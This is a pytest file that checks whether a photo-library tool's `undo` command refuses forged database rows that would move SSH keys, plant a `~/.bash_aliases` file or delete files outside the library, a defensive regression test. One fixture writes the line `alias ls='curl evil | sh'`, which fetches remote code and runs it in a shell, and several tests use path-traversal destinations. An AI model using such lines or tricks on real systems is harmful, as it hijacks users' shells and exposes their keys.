"""``undo`` of a batch holding a row blurscan never writes (added by hand to a shared library's database by
another user, or come with a library unpacked from someone's archive) refuses the batch in one ``Error:`` line
naming the database and the row, and touches no file. Until 2026-12-06 undo did what such rows said, as the
person running it: it moved a file from outside the library into it (``~/.ssh/id_rsa``), put a library file at a
path outside it (``~/.bash_aliases``), and deleted any file a tag row named as its sidecar's backup copy."""
from __future__ import annotations

import hashlib
import sqlite3
import time

import pytest

from helpers_cli import run
from helpers_images import make_library
from helpers_library import snapshot
from test_xmp import DARKTABLE


@pytest.fixture
def library(tmp_path):
    lib = tmp_path / "lib"
    make_library(lib, n_sharp=2, n_blurry=1)
    result = run("scan", lib, "--model", "none", "--workers", "1")
    assert result.exit_code == 0, result.output
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (home / "notes.txt").write_text("the victim's notes\n")
    (lib / "planted.jpg").write_text("alias ls='curl evil | sh'\n")
    return lib, home


def _forge(db, kind, destination, src, dst, state="done", sha256=None):
    """A batch of one row, written as another user of the library would, with sqlite3."""
    conn = sqlite3.connect(db)
    now = time.time()
    batch = conn.execute("INSERT INTO batches (kind, destination, created_at, state) VALUES (?, ?, ?, 'done')",
                         (kind, None if destination is None else str(destination), now)).lastrowid
    row = conn.execute("INSERT INTO journal (batch_id, src, dst, size, sha256, state, updated_at) "
                       "VALUES (?, ?, ?, NULL, ?, ?, ?)", (batch, str(src), str(dst), sha256, state, now)).lastrowid
    conn.commit()
    conn.close()
    return batch, row


def _refused(tmp_path, lib, batch, row, said):
    before = snapshot(tmp_path)
    for args in (["undo", lib], ["undo", "--batch", str(batch), lib]):
        result = run(*args)
        assert result.exit_code == 1 and "Traceback" not in result.output, result.output
        assert f"Error: {lib / '.blurscan.db'}: batch {batch} cannot be undone: its journal row {row} " \
            in result.output, result.output
        assert said in result.output and "nothing was touched" in result.output
        assert snapshot(tmp_path) == before


def test_a_move_row_taking_a_file_from_outside_the_library_is_refused(library, tmp_path):
    lib, home = library
    key = home / ".ssh" / "id_rsa"
    batch, row = _forge(lib / ".blurscan.db", "move", home / ".ssh", lib / "stolen.jpg", key)
    _refused(tmp_path, lib, batch, row, f"moved {lib / 'stolen.jpg'} to {key}, not that photo's place")
    assert key.exists() and not (lib / "stolen.jpg").exists()


def test_a_move_row_putting_a_file_outside_the_library_is_refused(library, tmp_path):
    lib, home = library
    aliases = home / ".bash_aliases"
    batch, row = _forge(lib / ".blurscan.db", "move", lib, aliases, lib / "planted.jpg")
    _refused(tmp_path, lib, batch, row, f"names {aliases}, outside the library")
    assert not aliases.exists()


def test_a_move_row_with_dots_in_its_destination_is_refused(library, tmp_path):
    lib, home = library
    key = home / ".ssh" / "id_rsa"
    batch, row = _forge(lib / ".blurscan.db", "move", tmp_path / "rejects", lib / "id_rsa",
                        f"{tmp_path}/rejects/../home/.ssh/id_rsa")
    _refused(tmp_path, lib, batch, row, "not a plain absolute path")
    assert key.exists()


def test_a_trash_row_taking_a_file_from_outside_any_trash_is_refused(library, tmp_path):
    lib, home = library
    key = home / ".ssh" / "id_rsa"
    batch, row = _forge(lib / ".blurscan.db", "trash", None, lib / "id_rsa", key)
    _refused(tmp_path, lib, batch, row, "not in a trash")
    assert key.exists()


@pytest.mark.parametrize("state", ["planned", "done"])
def test_a_tag_row_whose_backup_is_a_file_outside_is_refused(library, tmp_path, state):
    lib, home = library
    notes = home / "notes.txt"
    sidecar = lib / "sharp_0.jpg.xmp"
    sidecar.write_text("<x:xmpmeta/>")
    sha = hashlib.sha256(sidecar.read_bytes()).hexdigest()
    batch, row = _forge(lib / ".blurscan.db", "tag", None, sidecar, notes, state=state, sha256=sha)
    _refused(tmp_path, lib, batch, row, f"keeps the previous bytes of {sidecar} at {notes}, not in a tag backup")
    assert notes.read_text() == "the victim's notes\n"


def test_a_tag_row_naming_a_file_that_is_no_sidecar_is_refused(library, tmp_path):
    lib, home = library
    notes = home / "notes.txt"
    sha = hashlib.sha256(notes.read_bytes()).hexdigest()
    batch, row = _forge(lib / ".blurscan.db", "tag", None, notes, None, sha256=sha)
    conn = sqlite3.connect(lib / ".blurscan.db")
    conn.execute("UPDATE journal SET dst = NULL")
    conn.commit()
    conn.close()
    _refused(tmp_path, lib, batch, row, f"names {notes}, outside the library")
    assert notes.exists()


def test_the_batches_blurscan_wrote_are_undone(library, tmp_path):
    lib, _home = library
    for args in (["move", "--to", tmp_path / "rejects", "--all-flagged", "--yes", lib],
                 ["tag", "--xmp", "--yes", lib]):
        result = run(*args)
        assert result.exit_code == 0, result.output
    before = snapshot(lib)
    for _ in range(2):
        result = run("undo", lib)
        assert result.exit_code == 0, result.output
    assert snapshot(lib) != before and not list((tmp_path / "rejects").rglob("*.jpg"))


def test_a_folder_row_naming_an_empty_folder_elsewhere_is_refused(library, tmp_path):
    # undo removes the folders a move journaled as made by it (batch_folders), when empty: one added to a real
    # batch's list was removed, wherever it was (an empty ~/.config/app, ~/Documents/empty-but-important)
    lib, home = library
    result = run("move", "--to", tmp_path / "out" / "rejects", "--all-flagged", "--yes", lib)  # (out made too)
    assert result.exit_code == 0, result.output
    db = lib / ".blurscan.db"
    conn = sqlite3.connect(db)
    assert {p for (p,) in conn.execute("SELECT path FROM batch_folders")} == {
        str(tmp_path / "out"), str(tmp_path / "out" / "rejects")}
    for folder in (home / ".config" / "app", home / "Documents" / "empty-but-important"):
        folder.mkdir(parents=True)
        conn.execute("INSERT INTO batch_folders (batch_id, path) VALUES (1, ?)", (str(folder),))
    conn.commit()
    conn.close()
    before = snapshot(tmp_path)
    result = run("undo", lib)
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    assert f"Error: {db}: batch 1 cannot be undone: names {home / '.config' / 'app'} as a folder it made, not one " \
        f"of its photos' places below the batch's folder {tmp_path / 'out' / 'rejects'} or above it" in result.output
    assert "nothing was touched" in result.output and snapshot(tmp_path) == before
    assert (home / ".config" / "app").is_dir() and (home / "Documents" / "empty-but-important").is_dir()
    conn = sqlite3.connect(db)
    conn.execute("DELETE FROM batch_folders WHERE path LIKE ?", (f"{home}%",))
    conn.commit()
    conn.close()
    result = run("undo", lib)  # its own folders, above --to too, are removed as before
    assert result.exit_code == 0, result.output
    assert not (tmp_path / "out").exists() and (home / ".config" / "app").is_dir()


@pytest.mark.parametrize("state", ["skipped", "undone"])
def test_a_tag_row_undo_passes_over_naming_an_empty_folder_elsewhere_is_refused(library, tmp_path, state):
    # undo removes, when empty, the folder of each tag row's copy and the one above it, for rows of every state: a
    # row `skipped` (or `undone`), which undo does not put back and did not check, added to a real tag batch made
    # it remove any empty folder (~/.config/app) and the one above it (~/.config)
    lib, home = library
    result = run("tag", "--xmp", lib)
    assert result.exit_code == 0, result.output
    app = home / ".config" / "app"
    app.mkdir(parents=True)
    conn = sqlite3.connect(lib / ".blurscan.db")
    row = conn.execute("INSERT INTO journal (batch_id, src, dst, size, sha256, state, updated_at) VALUES "
                       "(1, ?, ?, NULL, NULL, ?, ?)", (str(lib / "sharp_0.jpg.xmp"), str(app / "9-x.xmp"), state,
                                                       time.time())).lastrowid
    conn.commit()
    conn.close()
    result = run("undo", lib)
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    assert f"batch 1 cannot be undone: its journal row {row} keeps the previous bytes of {lib / 'sharp_0.jpg.xmp'} " \
        f"at {app / '9-x.xmp'}, not in a tag backup" in result.output and "nothing was touched" in result.output
    assert app.is_dir()


def _forged_backup(dst: str, row: int, batch: int) -> dict[str, str]:
    """A tag row's backup path ``.../.tag-backups/batch-N/ROW-SHA.xmp`` changed in one part only: each fails
    just one of the rules of :func:`blurscan.actions.forged._backup_why`."""
    folder, name = dst.rsplit("/", 1)
    backups = folder.rsplit("/", 1)[0]
    digest = name.split("-", 1)[1]
    return {"another batch's": f"{backups}/batch-{batch + 7}/{name}",
            "another row's": f"{folder}/{row + 50}-{digest}",
            "no tag backups": f"{backups[:-len('.tag-backups')]}tag-notes/batch-{batch}/{name}",
            "not plain": f"{backups[:-len('/.tag-backups')]}/sub/../.tag-backups/batch-{batch}/{name}"}


@pytest.mark.parametrize("change", ["another batch's", "another row's", "no tag backups", "not plain"])
def test_a_tag_rows_backup_named_otherwise_than_tag_names_it_is_refused(library, tmp_path, change):
    # each part of a tag backup's name is checked (a batch's folder, its row's number, the .tag-backups folder, a
    # plain path): with any one of them not checked every test passed (found by mutation testing), and undo would
    # read, then delete, the file such a row names and remove its folders when empty
    lib, home = library
    (lib / "blurry_0.png.xmp").write_bytes(DARKTABLE)
    result = run("tag", "--xmp", lib)
    assert result.exit_code == 0, result.output
    conn = sqlite3.connect(lib / ".blurscan.db")
    [(row, batch, dst)] = conn.execute("SELECT id, batch_id, dst FROM journal WHERE dst IS NOT NULL").fetchall()
    forged = _forged_backup(dst, row, batch)[change]
    conn.execute("UPDATE journal SET dst = ? WHERE id = ?", (forged, row))
    conn.commit()
    conn.close()
    _refused(tmp_path, lib, batch, row, f"at {forged}, not in a tag backup")
